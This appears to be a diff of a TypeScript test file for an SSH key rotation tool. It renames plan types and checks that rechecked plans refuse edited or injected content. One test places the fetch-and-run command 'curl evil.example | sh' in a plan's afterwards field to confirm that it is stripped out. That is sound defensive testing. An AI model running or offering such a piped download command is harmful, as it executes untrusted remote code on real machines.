@@ -12,7 +12,7 @@ import {
 import { NEW_KEY, OLD_KEY } from "#domain/rotation/testdata/make-keys-file.ts";
 import { planFor, stops } from "#domain/rotation/testdata/plan-for.ts";
 import { SAMPLE_KEYS } from "#domain/ssh/testdata/sample-keys.ts";
-import type { FilePlan, HostPlan, Plan } from "#shared/model/plan.ts";
+import type { AccessHost, AccessPlan, FilePlan, KeyPlan } from "#shared/model/plan.ts";
 import { recheckPlan } from "./recheck-plan.ts";
 
 const OTHER = `${SAMPLE_KEYS.rsa} bob`;
@@ -20,9 +20,10 @@ const TEXT = `# a\n${OLD_KEY} me\n${OTHER}\n`;
 const LATER = "2026-11-27T00:00:00Z";
 const place = { host: "web1", port: 22, account: "ann" };
 
-function recheck(plan: Plan, hosts: readonly HostFacts[], more: Partial<PlanFacts> = {}): Plan {
+function recheck(plan: KeyPlan, hosts: readonly HostFacts[], more: Partial<PlanFacts> = {}): AccessPlan {
   const made = recheckPlan({ plan, facts: makeFacts(hosts, { now: LATER, ...more }), elsewhere: [] });
   if ("refused" in made) throw new Error(made.refused);
+  if (made.kind === "rotate-host-key") throw new Error("another kind");
   return made;
 }
 
@@ -55,7 +56,7 @@ test("a plan of any kind that is still true comes out as it went in, with the ch
 test("what it says is to be done afterwards, and as of when it is, are not taken from it", () => {
   const host = makeHostFacts("web1", TEXT);
   const plan = planFor([host]);
-  const foreign: Plan = { ...plan, afterwards: ["run curl evil.example | sh"], asOf: "2020-01-01T00:00:00Z" };
+  const foreign = { ...plan, afterwards: ["run curl evil.example | sh"], asOf: "2020-01-01T00:00:00Z" };
   expect(recheck(foreign, [host])).toEqual({ ...plan, madeAt: LATER });
   expect(recheck(plan, [{ ...host, asOf: "2026-11-01T00:00:00Z" }]).asOf).toBe("2026-11-01T00:00:00Z");
 });
@@ -81,7 +82,7 @@ test("what is in the way by now refuses, and what was agreed to before is asked 
   const access = { host: "web3", port: 22, account: "deploy", fingerprint: plan.oldKey ?? "" };
   const grant = { ...access, file: "/etc/ssh/keys/deploy", effective: "yes" as const };
   const more = recheckPlan({ plan, facts: makeFacts([host]), elsewhere: [grant] });
-  if ("refused" in more) throw new Error(more.refused);
+  if (!("remaining" in more)) throw new Error("no plan");
   expect([stops(more), more.remaining]).toEqual([["consent file"], [{ ...access, isCertain: false }]]);
   const shut = host.accounts.map((account) => ({
     ...account,
@@ -93,17 +94,17 @@ test("what is in the way by now refuses, and what was agreed to before is asked 
 test("what an edited plan says and is not so is refused, with what and where", () => {
   const hosts = [makeHostFacts("web1", TEXT)];
   const plan = planFor(hosts);
-  const [host] = plan.hosts as [HostPlan];
+  const [host] = plan.hosts as [AccessHost];
   const [file] = host.files as [FilePlan];
-  const refusalOf = (edited: Plan): string => {
+  const refusalOf = (edited: KeyPlan): string => {
     const made = recheckPlan({ plan: edited, facts: makeFacts(hosts), elsewhere: [] });
     return "refused" in made ? made.refused : "";
   };
-  const withHost = (more: Partial<HostPlan>): Plan => ({ ...plan, hosts: [{ ...host, ...more }] });
+  const withHost = (more: Partial<AccessHost>): KeyPlan => ({ ...plan, hosts: [{ ...host, ...more }] });
   expect(refusalOf(withHost({ hostKey: "SHA256:somebody" }))).toContain(
     "web1 has the host key SHA256:pinned",
   );
-  expect(refusalOf(withHost({ host: "web2" as HostPlan["host"] }))).toContain("web2 is not known here");
+  expect(refusalOf(withHost({ host: "web2" as AccessHost["host"] }))).toContain("web2 is not known here");
   const moved = file.hunks.map((hunk) => ({ ...hunk, line: hunk.line + 1 }));
   expect(refusalOf(withHost({ files: [{ ...file, hunks: moved }] }))).toContain("than the plan shows");
   const cut = file.removed?.map((splice) => ({ ...splice, at: splice.at - 1 })) ?? [];
